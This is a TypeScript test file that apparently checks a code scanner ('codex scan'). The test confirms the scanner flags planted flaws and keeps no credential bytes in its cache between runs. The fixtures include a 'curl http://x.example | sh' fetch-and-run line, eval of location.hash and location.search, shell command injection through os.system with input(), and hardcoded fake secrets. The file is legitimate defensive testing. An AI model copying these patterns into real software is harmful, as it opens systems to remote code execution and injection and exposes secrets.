import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { makeCodexHome } from '../support/codex-home.ts'
import { runCodex } from '../support/run-codex.ts'
import { makeWorkspace } from '../support/temp-workspace.ts'

/** All bytes below a folder, each file by its path. */
function filesBelow(dir: string): readonly (readonly [string, string])[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((name) => join(dir, name))
    .filter((path) => statSync(path).isFile())
    .map((path) => [path, readFileSync(path, 'latin1')] as const)
}

test('what a scan keeps for the next one holds no byte of a credential, whole or in part', async () => {
  const stripe = ['sk', 'live', '51HzQk2LmTv9XwRb7YnPc4Df'].join('_')
  const password = 'Wm4Xp8TzQ2vLk9Rb6YnD'
  const files = {
    Dockerfile: `FROM node:24\nARG STRIPE_KEY=${stripe}\nENV API_TOKEN=${password}\nRUN curl http://x.example | sh\n`,
    'a.js': `const cookie = { secret: '${password}' }\napp.use(session({ secret: '${password}' }))\neval(location.hash)\n`,
    'db.py': `import os\nos.system("psql postgres://admin:${password}@db/x " + input())\n`,
    'plain.js': 'eval(location.search)\n',
  }
  const [home, workspace] = [await makeCodexHome(), await makeWorkspace({ files })]
  onTestFinished(() => Promise.all([home.remove(), workspace.remove()]).then(() => {}))
  const scan = () => runCodex(['scan', '--category', 'all', '--json'], { cwd: workspace.path, home })
  const first = JSON.parse((await scan()).stdout)
  const found = first.findings.map(({ file }: { file: string }) => file)
  expect(found).toEqual(expect.arrayContaining(['Dockerfile', 'a.js', 'plain.js']))
  const kept = filesBelow(home.homeDir)
  // Something is kept.
  expect(kept.filter(([, bytes]) => bytes.includes('location.search'))).not.toEqual([])
  for (const part of [stripe, password, stripe.slice(8, 20), password.slice(0, 8), password.slice(8, 16)]) {
    expect(kept.filter(([, bytes]) => bytes.includes(part)).map(([path]) => path)).toEqual([])
  }
  const again = JSON.parse((await scan()).stdout)
  expect(again.findings).toEqual(first.findings)
})
